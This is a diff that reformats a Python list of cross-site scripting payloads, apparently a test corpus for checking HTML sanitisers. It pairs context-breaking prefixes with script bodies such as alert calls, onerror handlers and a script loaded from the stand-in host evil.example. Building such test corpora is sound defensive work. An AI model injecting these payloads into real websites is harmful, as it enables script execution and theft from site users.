@@ -3,7 +3,20 @@
 from __future__ import annotations
 
 #: what ends the place a text stands in: an attribute, an element, a comment, a script, a style, a template
-PREFIXES = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "--><", "]]>", "`>", "\\\">", "{{")
+PREFIXES = (
+    "",
+    '">',
+    "'>",
+    "</title>",
+    "</textarea>",
+    "</script>",
+    "</style>",
+    "--><",
+    "]]>",
+    "`>",
+    '\\">',
+    "{{",
+)
 #: what then acts: at once, when loaded, when touched
 BODIES = (
     "<script>window.RAN=1;alert(1)</script>",
@@ -44,7 +57,7 @@ OWN = (
     "<portal src=https://evil.example/></portal><embed src=https://evil.example/>",
     "&lt;script&gt;alert(1)&lt;/script&gt;",
     "&#60;img src=x onerror=alert(1)&#62;",
-    "\"><script src=//evil.example/x.js></script>",
+    '"><script src=//evil.example/x.js></script>',
     "<a href='https://evil.example/' target=_blank rel=opener>look</a>",
 )
 STRINGS = tuple(dict.fromkeys([prefix + body for body in BODIES for prefix in PREFIXES] + list(OWN)))
